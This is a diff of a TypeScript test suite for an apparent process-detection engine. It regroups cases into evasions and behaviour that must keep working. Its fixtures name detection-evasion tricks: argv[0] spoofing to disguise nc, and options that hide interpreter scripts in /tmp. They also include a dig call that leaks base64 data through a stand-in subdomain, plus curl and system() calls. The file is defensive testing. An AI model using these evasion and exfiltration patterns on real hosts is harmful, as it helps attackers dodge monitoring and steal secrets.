@@ -27,7 +27,8 @@ const underInterpreter =
 const curl = { pid: 300, ppid: 200, exe: "/usr/bin/curl", args: ["curl", "http://192.0.2.10/x"] };
 const dig = { pid: 300, ppid: 200, exe: "/usr/bin/dig", args: ["dig", "c2VjcmV0.leak.example"] };
 
-const cases: Record<string, ReturnType<typeof T>> = {
+/** Each of these was missed, or raised a false alert, before the executed file and the grammars decided. */
+const evasions: Record<string, ReturnType<typeof T>> = {
   // Spoofed argv[0] on the utility.
   "exec -a busybox /usr/bin/nc from a /tmp binary": T(
     fromTmpBinary({
@@ -64,8 +65,8 @@ const cases: Record<string, ReturnType<typeof T>> = {
     underInterpreter({ exe: "/usr/bin/dash", args: ["busybox", "/tmp/x"], invoked: "/bin/sh" }, dig),
     { alert: { utility: "dig", path: "/tmp/x", kind: "script" } },
   ),
-  "exec -a toybox python3 /tmp/x.py": T(
-    underInterpreter({ exe: "/usr/bin/python3.11", args: ["toybox", "-u", "/tmp/x.py"] }, curl),
+  "exec -a toybox python3 /tmp/x.py: python3 still runs /tmp/x.py": T(
+    underInterpreter({ exe: "/usr/bin/python3.11", args: ["toybox", "/tmp/x.py"] }, curl),
     { alert: { utility: "curl", path: "/tmp/x.py", kind: "script" } },
   ),
   // Interpreter grammars: options that hid the script.
@@ -161,11 +162,14 @@ const cases: Record<string, ReturnType<typeof T>> = {
     underInterpreter({ exe: "/usr/bin/php8.2", args: ["php", "-nr", "system('dig x');"], cwd: "/tmp" }, dig),
     { none: true },
   ),
+};
+
+/** What must keep working (these passed before, and the changes above must not break them). */
+const kept: Record<string, ReturnType<typeof T>> = {
   "awk PROGRAM in /tmp": T(
     underInterpreter({ exe: "/usr/bin/mawk", args: ["awk", 'BEGIN{system("dig x")}'], cwd: "/tmp" }, dig),
     { none: true },
   ),
-  // What must keep working.
   "busybox symlink nc from a /tmp binary": T(
     fromTmpBinary({
       pid: 0,
@@ -209,7 +213,10 @@ const cases: Record<string, ReturnType<typeof T>> = {
   ),
 };
 
-describe("identity and script evasions, through the pipeline", () => {
+describe.each([
+  ["evasions", evasions],
+  ["kept", kept],
+])("identity and script, through the pipeline: %s", (_group, cases) => {
   it.each(Object.entries(cases))("%s", async (_name, { tree, want }) => {
     const { alerts, counters } = await detect(tree());
     if ("none" in want) {
